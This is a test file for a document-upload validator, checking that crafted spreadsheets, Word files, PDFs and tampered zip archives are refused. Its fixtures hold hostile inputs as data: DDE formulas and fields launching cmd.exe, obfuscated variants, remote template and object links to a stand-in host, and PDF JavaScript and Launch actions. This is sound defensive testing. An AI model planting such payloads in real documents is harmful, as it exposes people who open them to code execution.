"""What acts when it is opened, and archives that lie about what they hold."""

import zipfile
import zlib
from hashlib import sha256
from io import BytesIO

import pytest

from exchange.incoming import evidence
from rules.evidence.files import FileKind, FileProblem, JudgedFile, RefusedFile
from tests.files import PDF, a_docx, an_archive, an_xlsx

OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def problem(content: bytes) -> FileProblem | None:
    found = evidence.judge("bukti", content)
    return found.problem if isinstance(found, RefusedFile) else None


def an_xlsx_with(name: str, part: str) -> bytes:
    with zipfile.ZipFile(BytesIO(an_xlsx())) as archive:
        members = {one: archive.read(one) for one in archive.namelist()}
    return an_archive({**members, name: part})


def a_sheet(formula: str) -> bytes:
    return an_xlsx_with("xl/worksheets/sheet2.xml", f"<sheet><c><f>{formula}</f></c></sheet>")


def a_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return a_docx({"word/header1.xml": f'<w:fldChar w:fldCharType="begin"/>{runs}'})


def a_relation(kind: str, target: str) -> bytes:
    relation = f'<Relationship Type="{OUTSIDE}/{kind}" Target="{target}" TargetMode="External"/>'
    return a_docx({"word/_rels/settings.xml.rels": relation})


def a_pdf(body: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + body)


def packed(body: bytes, *, also: bytes = b"") -> bytes:
    """A PDF with `body` among objects that are packed into a stream."""
    inside = zlib.compress(b"5 0 " + body + b" " * 200_000)
    head = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode%b/Length %d>>stream\r\n"
    stream = head % (also, len(inside)) + inside + b"\nendstream endobj\n"
    return PDF.replace(b"trailer", stream + b"trailer")


ACTIVE = {
    "macro of DDE in a workbook": an_xlsx_with(
        "xl/externalLinks/externalLink1.xml", '<x:externalLink><x:ddeLink ddeService="cmd"/>'
    ),
    "formula that starts a program": a_sheet("cmd|'/c calc'!A0"),
    "formula spelt in entities": a_sheet("cmd&#124;'/c calc'!A0"),
    "rule that starts a program": an_xlsx_with(
        "xl/worksheets/sheet2.xml", "<formula1>cmd|'/c calc'!A0</formula1>"
    ),
    "part in another encoding": an_xlsx_with(
        "xl/worksheets/sheet2.xml", '<?xml version="1.0" encoding="UTF-7"?><f>+AHw-</f>'
    ),
    "part with a document type": an_xlsx_with("xl/worksheets/sheet2.xml", "<!DOCTYPE a []><a/>"),
    "field of Word": a_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "field in pieces": a_field(" D", "DE", "AUTO excel"),
    "field in one": a_docx({"word/footer1.xml": '<w:fldSimple w:instr=" DDE excel "/>'}),
    "template from elsewhere": a_relation("attachedTemplate", "https://jahat.example/a.dotm"),
    "object from elsewhere": a_relation("oleObject", "https://jahat.example/a"),
    "picture on a share": a_relation("image", "file:////jahat.example/a.png"),
    "script of a PDF": a_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "script spelt in numbers": a_pdf(b"/OpenAction<</S/#4aava#53cript/JS(1)>>"),
    "program of a PDF": a_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "file within a PDF": a_pdf(b"/Names<</EmbeddedFiles 5 0 R>>"),
    "script among packed objects": packed(b"<</S/JavaScript/JS(1)>>"),
    "packed beyond looking": packed(b"<<>>", also=b"/DecodeParms<</Predictor 12>>"),
}


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE.keys())
def test_what_acts_when_it_is_opened_is_refused(content: bytes) -> None:
    assert problem(content) is FileProblem.ACTIVE_CONTENT


PASSIVE = {
    "text with a bar in a formula": a_sheet("A1&amp;&quot;|&quot;&amp;B1"),
    "link to click": a_relation("hyperlink", "https://dpmd.example"),
    "template of the office": a_relation("attachedTemplate", "file:///C:\\Templat\\surat.dotx"),
    "picture of a site": a_relation("image", "https://dpmd.example/lambang.png"),
    "figures of another workbook": a_relation("externalLinkPath", "rencana.xlsx"),
    "page number": a_field(" PAGE "),
    "packed objects": packed(b"<</S/GoTo>>"),
    "script as a word": packed(b"(JavaScript)"),
}


@pytest.mark.parametrize("content", PASSIVE.values(), ids=PASSIVE.keys())
def test_what_offices_write_is_taken(content: bytes) -> None:
    assert problem(content) is None


def test_packed_objects_under_a_password_cannot_be_looked_through() -> None:
    locked = packed(b"<<>>", also=b"/Encrypt 5 0 R")
    assert problem(locked) is FileProblem.OLD_OR_LOCKED


def _with_size(content: bytes, size: int) -> bytes:
    """Let the archive's list say that its last member unpacks to `size` bytes."""
    changed = bytearray(content)
    place = content.rindex(b"PK\x01\x02")
    changed[place + 24 : place + 28] = size.to_bytes(4, "little")
    return bytes(changed)


NOISE = b"".join(sha256(b"%d" % number).digest() for number in range(4000))


@pytest.mark.parametrize("size", [0, 5, len(NOISE) - 1, len(NOISE) + 1])
def test_a_member_that_holds_more_or_less_than_is_said_is_refused(size: int) -> None:
    honest = a_docx({"word/media/a.bin": NOISE})
    assert isinstance(evidence.judge("a.docx", honest), JudgedFile)
    assert problem(_with_size(honest, size)) is FileProblem.FALSE_SIZES


def test_members_that_share_their_bytes_are_refused() -> None:
    honest = a_docx({"word/media/a.bin": b"a" * 5000, "word/media/b.bin": b"a" * 5000})
    first = honest.index(b"word/media/a.bin") - 30
    changed = bytearray(honest)
    last = honest.rindex(b"PK\x01\x02")
    changed[last + 42 : last + 46] = first.to_bytes(4, "little")
    assert problem(bytes(changed)) is FileProblem.FALSE_SIZES


HEADS = (b"ftypheic", b"ftypmif1", b"ftyphevc", b"ftypavif")


@pytest.mark.parametrize("head", HEADS)
def test_a_photograph_in_a_format_of_telephones_is_refused_with_the_way_out(head: bytes) -> None:
    found = evidence.judge("IMG_0001.jpg", b"\0\0\0\x24" + head + b"\0" * 200)
    assert found == RefusedFile("IMG_0001.jpg", FileProblem.PHONE_FORMAT)


def test_each_kind_is_still_what_it_was() -> None:
    assert isinstance(found := evidence.judge("a.pdf", PDF), JudgedFile)
    assert found.kind is FileKind.PDF
